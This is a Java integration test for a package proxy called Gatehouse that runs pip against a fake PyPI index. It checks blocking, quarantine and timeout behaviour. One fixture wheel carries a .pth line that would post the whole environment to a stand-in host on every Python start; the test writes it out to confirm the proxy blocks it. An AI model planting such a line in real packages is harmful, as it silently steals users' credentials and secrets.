package dev.gatehouse.proxy.pypi;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.fail;

import dev.gatehouse.proxy.testing.FakeUpstream;
import dev.gatehouse.proxy.testing.TestGatehouse;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import okhttp3.mockwebserver.MockResponse;
import okio.Buffer;
import org.junit.jupiter.api.io.TempDir;

/**
 * The real {@code pip} against Gatehouse, with the fake index as its upstream: {@code pip download
 * --no-deps --only-binary=:all:}, so that pip never builds an sdist (which would run its {@code setup.py})
 * and installs nothing. pip's cache and configuration are isolated in the test's folder, and every {@code
 * PIP_*} and proxy variable of the environment is dropped, so that it can reach nothing but Gatehouse.
 */
class PipClientTest {
  /** pip resolves, downloads and hashes two small files; far less than this even on a slow machine. */
  private static final long PIP_TIMEOUT_SECONDS = 180;

  @TempDir Path tmp;
  private FakeUpstream upstream;
  private TestGatehouse gatehouse;

  @BeforeEach
  void start() throws Exception {
    upstream = FakeUpstream.start();
    Path server = Files.createDirectories(tmp.resolve("gatehouse"));
    gatehouse = TestGatehouse.builder(server).pypi(upstream.url("/simple/"), upstream.url("/files/"))
        .blockingThreads(8).start();
  }

  @AfterEach
  void stop() throws Exception {
    gatehouse.close();
    upstream.close();
  }

  /** Serves {@code wheel} as the only file of its project, with its core metadata (PEP 658) beside it. */
  private void publish(String project, WheelFixture wheel) {
    byte[] bytes = wheel.bytes();
    byte[] metadata = wheel.metadata().getBytes(StandardCharsets.UTF_8);
    upstream.text("/simple/" + project + "/", "application/vnd.pypi.simple.v1+json", """
        {"meta": {"api-version": "1.1"}, "name": "%s", "versions": ["1.0"], "files": [
          {"filename": "%s", "url": "../../files/%2$s", "hashes": {"sha256": "%s"}, "requires-python": ">=3.7",
           "core-metadata": {"sha256": "%s"}, "size": %d, "upload-time": "2024-01-01T00:00:00Z"}]}
        """.formatted(project, wheel.fileName(), WheelFixture.sha256Hex(bytes), WheelFixture.sha256Hex(metadata),
        bytes.length));
    upstream.body("/files/" + wheel.fileName(), "application/octet-stream", bytes);
    upstream.body("/files/" + wheel.fileName() + ".metadata", "application/octet-stream", metadata);
  }

  @Test
  void pipDownloadsAWheelThroughGatehouseFromTheUpstream() throws Exception {
    WheelFixture wheel = WheelFixture.of("demo_pkg", "1.0")
        .file("demo_pkg/__init__.py", "\"\"\"A package whose import only defines things.\"\"\"\n\n"
            + "def greet(name):\n    return 'hello ' + name\n");
    publish("demo-pkg", wheel);
    Path downloads = tmp.resolve("downloads");

    Pip result = pip(downloads, "demo-pkg");

    assertThat(result.exitCode()).as(result.output()).isZero();
    assertThat(Files.readAllBytes(downloads.resolve(wheel.fileName()))).isEqualTo(wheel.bytes());
    assertThat(upstream.hits("/files/" + wheel.fileName())).isEqualTo(1);
  }

  @Test
  void pipFailsOnAWheelWhosePthFileExfiltratesAndPrintsWhy() throws Exception {
    // The LiteLLM 2026 mechanism, inert: a .pth line that Python would run on every start, posting the
    // environment to a host that cannot exist. pip download never runs it; Gatehouse must not serve it.
    WheelFixture wheel = WheelFixture.of("demo_evil", "1.0")
        .file("demo_evil/__init__.py", "")
        .file("demo_evil_init.pth", "import os, urllib.request; urllib.request.urlopen("
            + "'https://collector.invalid/c', data=repr(dict(os.environ)).encode())\n");
    publish("demo-evil", wheel);
    Path downloads = tmp.resolve("downloads");

    Pip result = pip(downloads, "demo-evil");

    assertThat(result.exitCode()).isNotZero();
    assertThat(result.output()).contains("HTTP error 403 while getting",
        "403 Client Error: demo-evil@1.0 (demo_evil-1.0-py3-none-any.whl) blocked by Gatehouse rule ",
        "demo_evil_init.pth", "network");
    assertThat(downloads.resolve(wheel.fileName())).doesNotExist();
  }

  /**
   * Issue 12, for pip: a file left out of the simple page made pip pick an older one, which was then fetched and
   * analyzed in turn. Now the quarantined newest wheel stays listed: pip fails on it and prints why, every time,
   * and the older wheel is never fetched.
   */
  @Test
  void pipFailsOnAQuarantinedNewestWheelAndPrintsWhyInsteadOfFetchingAnOlderOne() throws Exception {
    WheelFixture old = WheelFixture.of("demo_walk", "1.0").file("demo_walk/__init__.py", "");
    WheelFixture held = WheelFixture.of("demo_walk", "2.0").file("demo_walk/__init__.py", "")
        .unrecorded("demo_walk/extra.py", "X = 1\n");
    upstream.text("/simple/demo-walk/", "application/vnd.pypi.simple.v1+json", """
        {"meta": {"api-version": "1.1"}, "name": "demo-walk", "versions": ["1.0", "2.0"], "files": [
          {"filename": "%s", "url": "../../files/%1$s", "hashes": {"sha256": "%s"}, "upload-time": "2024-01-01T00:00:00Z"},
          {"filename": "%s", "url": "../../files/%3$s", "hashes": {"sha256": "%s"}, "upload-time": "2024-02-01T00:00:00Z"}]}
        """.formatted(old.fileName(), WheelFixture.sha256Hex(old.bytes()), held.fileName(),
        WheelFixture.sha256Hex(held.bytes())));
    upstream.body("/files/" + old.fileName(), "application/octet-stream", old.bytes());
    upstream.body("/files/" + held.fileName(), "application/octet-stream", held.bytes());
    Path downloads = tmp.resolve("downloads");

    for (int run = 1; run <= 3; run++) {
      Pip result = pip(downloads, "demo-walk");

      assertThat(result.exitCode()).as("run %d:%n%s", run, result.output()).isNotZero();
      assertThat(result.output()).as("run %d", run).contains("HTTP error 403 while getting",
          "403 Client Error: demo-walk@2.0 (demo_walk-2.0-py3-none-any.whl) quarantined by Gatehouse rule "
              + "unreadable-archive, quarantine id q-", ", pending review: ");
    }
    assertThat(upstream.hits("/files/" + old.fileName())).as("the older wheel is never fetched").isZero();
    assertThat(downloads.resolve(old.fileName())).doesNotExist();
  }

  /**
   * Gatehouse sends nothing before its verdict (fail closed), so a client waits with no bytes while a large
   * wheel is fetched and analyzed: a 274 MB wheel took 14.8 s against pip's 15 s default timeout. The README tells
   * users to raise it ({@code pip --timeout}, {@code PIP_DEFAULT_TIMEOUT}); this pins that the advice works and
   * that it is needed.
   */
  @Test
  void aSlowFirstFetchFailsPipsShortReadTimeoutAndSucceedsWithTheTimeoutTheReadmeSets() throws Exception {
    WheelFixture tooSlow = WheelFixture.of("demo_slow", "1.0").file("demo_slow/__init__.py", "");
    WheelFixture patient = WheelFixture.of("demo_slower", "1.0").file("demo_slower/__init__.py", "");
    publishSlowly("demo-slow", tooSlow);
    publishSlowly("demo-slower", patient);
    Path downloads = tmp.resolve("downloads");

    Pip impatient = pip(downloads, "demo-slow", "--timeout", "1", "--retries", "0");
    Pip documented = pip(downloads, "demo-slower", "--timeout", "120");

    assertThat(impatient.exitCode()).as(impatient.output()).isNotZero();
    assertThat(impatient.output()).containsIgnoringCase("timed out");
    assertThat(documented.exitCode()).as(documented.output()).isZero();
    assertThat(Files.readAllBytes(downloads.resolve(patient.fileName()))).isEqualTo(patient.bytes());
  }

  /** Like {@link #publish}, but the upstream sends the wheel in six slices 700 ms apart, about 4 s in all. */
  private void publishSlowly(String project, WheelFixture wheel) {
    publish(project, wheel);
    byte[] bytes = wheel.bytes();
    upstream.respond("/files/" + wheel.fileName(), () -> new MockResponse()
        .setHeader("Content-Type", "application/octet-stream")
        .setBody(new Buffer().write(bytes))
        .throttleBody((bytes.length + 5) / 6, 700, TimeUnit.MILLISECONDS));
  }

  private record Pip(int exitCode, String output) {}

  private Pip pip(Path downloads, String project, String... options) throws IOException, InterruptedException {
    Path home = Files.createDirectories(tmp.resolve("home"));
    List<String> command = new ArrayList<>(List.of("python3", "-m", "pip", "download", "--no-deps",
        "--only-binary=:all:", "--no-cache-dir", "--disable-pip-version-check", "--no-input",
        "--index-url", gatehouse.url("/pypi/simple/"), "-d", downloads.toString()));
    command.addAll(List.of(options));
    command.add(project);
    ProcessBuilder builder = new ProcessBuilder(command).redirectErrorStream(true).directory(tmp.toFile());
    Map<String, String> env = builder.environment();
    env.keySet().removeIf(k -> k.startsWith("PIP_") || k.toLowerCase(java.util.Locale.ROOT).endsWith("_proxy"));
    env.put("PIP_CONFIG_FILE", "/dev/null");
    env.put("HOME", home.toString());
    env.put("XDG_CACHE_HOME", home.resolve("cache").toString());
    env.put("XDG_CONFIG_HOME", home.resolve("config").toString());
    env.put("PYTHONNOUSERSITE", "1");
    Process process;
    try {
      process = builder.start();
    } catch (IOException missing) {
      return fail("python3 with pip must be installed to run this test (CI installs python3-pip): " + missing.getMessage());
    }
    process.getOutputStream().close();
    // Read while it runs: a full pipe would stall pip.
    StringBuilder output = new StringBuilder();
    Thread reader = new Thread(() -> {
      try {
        output.append(new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8));
      } catch (IOException e) {
        output.append("(reading pip's output failed: ").append(e.getMessage()).append(')');
      }
    }, "pip-output");
    reader.start();
    if (!process.waitFor(PIP_TIMEOUT_SECONDS, TimeUnit.SECONDS)) {
      process.destroyForcibly();
      reader.join();
      return fail("pip did not finish within " + PIP_TIMEOUT_SECONDS + " s:\n" + output);
    }
    reader.join();
    String text = output.toString();
    if (text.contains("No module named pip")) {
      return fail("python3 has no pip module; this test needs it (CI installs python3-pip):\n" + text);
    }
    return new Pip(process.exitValue(), text);
  }
}
